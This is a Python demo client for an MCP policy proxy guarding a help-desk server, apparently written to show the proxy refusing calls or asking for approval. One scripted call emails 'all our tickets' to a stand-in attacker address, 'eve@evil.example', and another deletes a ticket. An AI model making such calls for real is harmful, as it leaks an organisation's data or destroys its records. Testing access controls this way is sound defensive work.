"""An MCP client that talks to the help-desk server through `nhipl mcp-proxy`.

    python client.py [--approve yes|no]

It starts the proxy (which starts server.py), makes four calls and prints each outcome.
`--approve` is the answer the "human" gives when the proxy asks for approval.
"""

from __future__ import annotations

import argparse
import os
import pathlib
import shutil
import sys

import anyio
from mcp import ClientSession, StdioServerParameters, stdio_client
from mcp.types import ElicitResult

HERE = pathlib.Path(__file__).parent

PROXY = [
    "mcp-proxy",
    "--policies", str(HERE / "policies.nhipl"),
    "--identity", "spiffe://acme.org/agents/support",
    "--intent", "triage",
    "--prefix", "helpdesk",
    "--",
    sys.executable, str(HERE / "server.py"),
]

CALLS = [
    ("read_ticket", {"ticket": "T-1"}),
    ("send_mail", {"to": "bob@acme.com", "body": "your printer is fixed"}),
    ("send_mail", {"to": "eve@evil.example", "body": "all our tickets"}),
    ("delete_ticket", {"ticket": "T-1"}),
]


def _nhipl() -> list[str]:
    found = shutil.which("nhipl", path=os.path.dirname(sys.executable)) or shutil.which("nhipl")
    return [found] if found else [sys.executable, "-m", "nhipl"]


async def main(approve: bool) -> None:
    command = _nhipl() + PROXY
    params = StdioServerParameters(command=command[0], args=command[1:], env=dict(os.environ))

    async def human(context, params):
        print(f"  approval asked: {params.message.splitlines()[0]}")
        return ElicitResult(action="accept", content={"approve": approve})

    with anyio.fail_after(60):
        await _session(params, human)


async def _session(params, human) -> None:
    async with stdio_client(params) as (read, write):
        async with ClientSession(read, write, elicitation_callback=human) as client:
            await client.initialize()
            tools = await client.list_tools()
            print("tools:", ", ".join(sorted(t.name for t in tools.tools)))
            for name, arguments in CALLS:
                result = await client.call_tool(name, arguments)
                text = " ".join(c.text for c in result.content if getattr(c, "type", None) == "text")
                print(f"{name}({', '.join(f'{k}={v!r}' for k, v in arguments.items())}): "
                      f"{'REFUSED' if result.is_error else 'ok'}: {text.splitlines()[0] if text else ''}")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--approve", choices=["yes", "no"], default="no")
    args = parser.parse_args()
    anyio.run(main, args.approve == "yes")
